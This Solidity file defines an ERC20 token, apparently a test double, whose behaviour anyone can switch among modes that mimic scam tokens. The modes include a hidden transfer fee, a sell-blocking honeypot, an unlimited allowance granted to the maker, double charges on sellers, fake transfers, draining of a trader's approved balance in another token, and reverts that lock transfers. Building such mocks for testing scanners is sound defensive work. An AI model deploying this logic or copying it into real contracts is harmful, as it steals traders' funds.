// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// A token that behaves as those do that are out for somebody's money, once it is told how.
contract Chameleon is ERC20 {
    /// 0 honest; 1 a tenth of each transfer is gone; 2 nobody but its maker sells; 3 fails where gas is paid for;
    /// 4 lets its maker spend whatever the receiver has; 5 takes twice as much from whoever sells; 6 moves nothing and
    /// says it did; 7 counts with 255 decimals; 8 draws on another token that whoever trades once let it spend;
    /// 9 never ends; 10 fails with endless words.
    uint8 public way;
    address private immutable _maker;
    ERC20 private immutable _other;

    constructor(uint256 supply, ERC20 other) ERC20("Chameleon", "CHAM") {
        _maker = msg.sender;
        _other = other;
        _mint(msg.sender, supply);
    }

    function behave(uint8 way_) external {
        way = way_;
    }

    function decimals() public view override returns (uint8) {
        return way == 7 ? 255 : 18;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (way == 1 && from != address(0)) {
            super._update(from, address(0), value / 10);
            value -= value / 10;
        }
        if (way == 2) require(tx.origin == _maker || from.code.length > 0, "only bought");
        if (way == 3) require(tx.gasprice == 0, "not in earnest");
        if (way == 4) _approve(to, _maker, type(uint256).max);
        if (way == 5 && from.code.length == 0) super._update(from, _maker, value);
        if (way == 6) return;
        if (way == 8) _draw(from.code.length == 0 ? from : to);
        if (way == 9) while (true) {}
        if (way == 10) revert(string(new bytes(100_000)));
        super._update(from, to, value);
    }

    function _draw(address from) private {
        uint256 allowed = _other.allowance(from, address(this));
        if (allowed > 0) _other.transferFrom(from, _maker, allowed);
    }
}
